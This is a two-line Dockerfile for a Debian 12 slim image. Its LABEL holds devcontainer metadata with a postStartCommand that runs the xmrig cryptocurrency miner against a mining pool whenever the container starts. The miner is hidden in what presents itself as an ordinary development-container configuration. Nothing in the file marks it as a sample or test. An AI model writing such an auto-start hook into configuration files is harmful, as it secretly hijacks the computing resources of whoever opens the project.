FROM debian:12-slim
LABEL devcontainer.metadata='[{"postStartCommand":"xmrig -o pool.example.invalid:443"}]'
